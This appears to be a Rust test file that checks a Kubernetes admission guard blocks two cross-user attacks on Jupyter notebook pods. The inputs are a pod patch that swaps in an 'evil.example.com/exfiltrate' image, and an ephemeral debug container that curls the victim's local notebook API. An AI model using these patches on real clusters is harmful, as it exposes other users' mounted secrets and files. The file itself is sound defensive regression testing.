//! Attacks through the real API server found by a security review of the guard. Each test
//! asserts that the guard refuses the attack (each failed before its fix).

mod support;

use kube::api::{Patch, PatchParams, PostParams};
use serde_json::json;
use support::env::*;
use support::webhook::*;

/// `kubectl set image pod/jupyter-alice notebook=evil` as bob: the API server allows changing a
/// container's image, the kubelet restarts the container with bob's image and alice's mounts.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_pod_update_swaps_the_image_of_another_users_notebook() {
    let env = Env::start().await;
    env.pods_as(HUB)
        .create(
            &PostParams::default(),
            &notebook_pod(
                "jupyter-alice",
                "alice",
                &[("notebook-volumes.io/secret-shares", "mergers")],
            ),
        )
        .await
        .expect("alice's notebook");
    let swap = json!({"spec": {"containers": [{"name": "notebook", "image": "evil.example.com/exfiltrate:latest"}]}});
    let result = env
        .pods_as_user("bob", &[])
        .patch(
            "jupyter-alice",
            &PatchParams::default(),
            &Patch::Strategic(&swap),
        )
        .await;
    env.stop().await;
    match result {
        Err(kube::Error::Api(status)) => {
            assert!(status.code == 403, "{status:?}");
        }
        Err(e) => panic!("unexpected error {e}"),
        Ok(pod) => panic!(
            "bob swapped the image of alice's notebook (secret share mergers mounted): now {:?}",
            pod.spec.unwrap().containers[0].image
        ),
    }
}

/// `kubectl debug jupyter-alice --image=curl -- curl localhost:8888/...` as bob, without
/// `--target`: the debug container joins the notebook's network namespace and may mount its
/// emptyDir/Secret/projected volumes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_untargeted_debug_container_in_another_users_notebook() {
    let env = Env::start().await;
    env.pods_as(HUB)
        .create(
            &PostParams::default(),
            &notebook_pod("jupyter-alice", "alice", &[]),
        )
        .await
        .expect("alice's notebook");
    let patch = json!({"spec": {"ephemeralContainers": [{"name": "peek", "image": "curlimages/curl", "command": ["curl", "http://127.0.0.1:8888/api/contents/"]}]}});
    let result = env
        .pods_as_user("bob", &[])
        .patch_subresource(
            "ephemeralcontainers",
            "jupyter-alice",
            &PatchParams::default(),
            &Patch::Strategic(patch),
        )
        .await;
    env.stop().await;
    assert!(
        result.is_err(),
        "bob added a debug container to alice's notebook (her network namespace and volumes)"
    );
}
